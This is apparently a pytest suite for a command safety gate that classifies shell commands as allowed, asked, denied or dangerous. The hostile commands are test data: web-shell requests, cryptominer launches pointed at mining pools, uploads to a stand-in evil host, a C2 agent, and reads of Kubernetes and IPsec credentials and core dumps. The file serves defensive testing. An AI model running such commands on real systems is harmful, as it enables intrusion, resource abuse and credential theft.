"""Families found with SigmaHQ's Linux rules (issue 16): code a runner takes from outside the
working tree, commands sent to a web shell, the tree's programs pointed at a remote host,
and a secret scanner that sends what it finds. DATA ONLY: classified, never executed."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from swebash.api import Verdict
from swebash.safety.gate import DefaultGate
from tests.safety.fresh import make_workdir

Check = Callable[[str], Verdict]


@pytest.fixture
def check(tmp_path: Path, hermetic_env: Path) -> Iterator[Check]:
    gate = DefaultGate(home=str(hermetic_env))
    work = make_workdir(str(tmp_path))
    yield lambda command: gate.check_command(command, work)


# what a runner runs from outside the tree is unknown: dangerous until a person vouches
UNKNOWN_CODE = [
    "java -cp /tmp/x.jar Exploit 10.0.0.5 4444",
    "java -jar /tmp/.cache/x.jar",
    "java -classpath lib/a.jar:/dev/shm/b.jar Main",
    "java --class-path=/tmp/c Main",
    "java /tmp/Exploit.java",
    "go run /tmp/x.go",
    "deno run /tmp/x.ts",
    "bun run ~/Downloads/x.ts",
    "sed -f /tmp/x.sed notes.txt",
]
# the tree's own code, or code installed in the home's toolchains: asked, not unknown
OWN_CODE = [
    "java -jar build/libs/app.jar",
    "java -cp target/classes:lib/* com.example.Main",
    "go run ./cmd/server",
    "go build -o /tmp/out/x ./cmd/x",
    "deno run src/main.ts",
    "bun run dev",
    "sed -f fix.sed notes.txt",
]
WEB_SHELLS = [
    "curl 'http://target.example/uploads/shell.php?cmd=id'",
    "curl -s 'https://t.example/index.php?exec=whoami'",
    "wget -qO- 'http://t.example/x.php?file=$(id)'",
    "curl 'https://t.example/?q=a;cat /etc/passwd'",
    "curl 'http://t.example/a.jsp?Command=uname%20-a'",
]
PLAIN_QUERIES = [
    "curl -s 'https://api.github.com/search/code?q=foo|bar'",
    "curl -s 'https://example.com/a?page=2&per_page=100'",
    "curl -s 'https://example.com/search?q=how+to+exec+a+command'",
]
REMOTE_TREE_PROGRAMS = [
    "./xmrig -o pool.supportxmr.com:443 -u 44AFF --donate-level=0 -B",
    "./kdevtmpfsi --cpu-priority 5 -o 45.9.148.10:80 -u x",
    "./scripts/sync.sh https://evil.example/upload",
    "bin/agent --server=c2.example.net:8443",
    "nohup ./.cache/kswapd0 --url stratum+ssl://eu1.ethermine.org:5555 >/dev/null 2>&1 &",
]
LOCAL_TREE_PROGRAMS = [
    "./manage.py runserver 0.0.0.0:8000",
    "./manage.py runserver localhost:8000",
    "./build.sh notes.txt v1.2.3",
    "./scripts/test --url=http://127.0.0.1:9000/health",
]
SECRET_SCANS = [
    "trufflehog git https://github.com/acme/internal-api --results=verified",
    "trufflehog s3 --bucket=acme-backups",
    "trufflehog filesystem src",  # verifies what it finds: the secrets leave the machine
    "trufflehog filesystem ~ --no-verification",
    "trufflehog github --org=acme --no-verification",
]


@pytest.mark.parametrize("command", UNKNOWN_CODE)
def test_code_a_runner_takes_from_outside_the_tree_is_unknown(command: str,
                                                              check: Check) -> None:
    verdict = check(command)
    assert verdict.decision == "ask" and verdict.dangerous and verdict.unknown, verdict
    assert "outside the working tree" in verdict.reasons[0]


@pytest.mark.parametrize("command", OWN_CODE)
def test_the_trees_own_code_is_asked_without_the_flag(command: str, check: Check) -> None:
    verdict = check(command)
    assert verdict.decision == "ask" and not verdict.unknown, verdict
    assert not any("runs code from" in r for r in verdict.reasons), verdict


@pytest.mark.parametrize("command", WEB_SHELLS)
def test_a_command_sent_in_a_url_query_is_dangerous(command: str, check: Check) -> None:
    verdict = check(command)
    assert verdict.dangerous and "web shell" in " ".join(verdict.reasons), verdict


@pytest.mark.parametrize("command", PLAIN_QUERIES)
def test_an_ordinary_query_is_a_plain_download(command: str, check: Check) -> None:
    assert check(command).decision == "allow"


@pytest.mark.parametrize("command", REMOTE_TREE_PROGRAMS)
def test_a_tree_program_given_a_remote_address_is_dangerous(command: str,
                                                           check: Check) -> None:
    verdict = check(command)
    assert verdict.dangerous and "remote address" in verdict.reasons[0], verdict


@pytest.mark.parametrize("command", LOCAL_TREE_PROGRAMS)
def test_a_tree_program_given_a_local_address_is_a_plain_ask(command: str,
                                                            check: Check) -> None:
    verdict = check(command)
    assert verdict.decision == "ask" and not verdict.dangerous, verdict


@pytest.mark.parametrize("command", SECRET_SCANS)
def test_a_secret_scan_that_sends_or_collects_is_dangerous(command: str,
                                                           check: Check) -> None:
    assert check(command).dangerous


def test_a_local_scan_of_the_tree_without_verification_only_asks(check: Check) -> None:
    verdict = check("trufflehog filesystem . --no-verification")
    assert verdict.decision == "ask" and not verdict.dangerous, verdict
    assert check("trufflehog --version").decision == "allow"


# found with Elastic's Linux rules: credentials a system keeps outside the home, and memory
# images (a core dump holds what the process held: passwords, keys)
SYSTEM_CREDENTIALS = [
    "cat /etc/kubernetes/admin.conf",
    "cp /etc/kubernetes/pki/ca.key .",
    "cat /etc/rancher/k3s/k3s.yaml",
    "grep -a PSK /etc/ipsec.secrets",
    "strings /tmp/.dump/2211.core | grep -i pass",
    "strings /var/lib/systemd/coredump/core.sshd.0.1234.zst",
    "cat app.kubeconfig",
]
NOT_CREDENTIALS = ["ls src/core", "cat src/core/x.py",
                   "cat /etc/kubernetes/manifests/kube-apiserver.yaml"]


@pytest.mark.parametrize("command", SYSTEM_CREDENTIALS)
def test_system_credentials_and_core_dumps_are_secret(command: str, check: Check) -> None:
    verdict = check(command)
    assert verdict.decision == "deny" and verdict.dangerous, verdict


@pytest.mark.parametrize("command", NOT_CREDENTIALS)
def test_a_directory_named_core_or_a_manifest_is_not(command: str, check: Check) -> None:
    assert check(command).decision == "allow"


# read-only commands from tldr-pages' examples that were asked about needlessly: a sub-command
# alias (`gh … ls`), a verb's `--help`, a flag spelled `--flag=true`, a read-only query tool
DAILY_READS = [
    "gh issue ls -L 10 -l bug",
    "gh repo ls octocat -l python",
    "gh pr ls",
    "gh release ls",
    "gh issue status -R octocat/hello-world",
    "docker top --help",
    "kubectl explain --help",
    "kubectl logs --all-containers=true web-0",
    "apt-file find bin/rg",
    "apt-file list ripgrep",
    "cargo tree --frozen --depth 1",
    "cargo metadata --no-deps --format-version 1 --locked --offline",
]


@pytest.mark.parametrize("command", DAILY_READS)
def test_daily_reads_are_allowed(command: str, check: Check) -> None:
    verdict = check(command)
    assert verdict.decision == "allow", verdict


@pytest.mark.parametrize("command", ["kubectl delete pod web-0 --help",
                                     "kubectl delete pod web-0 --force=true",
                                     "apt-file update", "netstat -c", "cargo tree"])
def test_help_after_operands_a_true_flag_an_update_or_a_stream_still_ask(
        command: str, check: Check) -> None:
    assert check(command).decision == "ask"


@pytest.mark.parametrize("command", ["setfacl -m u:nobody:rwx notes.txt",
                                     "setfacl -R -m d:g:nogroup:rx src",
                                     "setfacl --modify=user:nobody:rw,g::r notes.txt",
                                     "git lfs prune"])
def test_granting_another_user_access_or_pruning_large_files_is_dangerous(
        command: str, check: Check) -> None:
    assert check(command).dangerous


def test_an_acl_for_the_owner_only_asks(check: Check) -> None:
    verdict = check("setfacl -m u::rw notes.txt")
    assert verdict.decision == "ask" and not verdict.dangerous, verdict
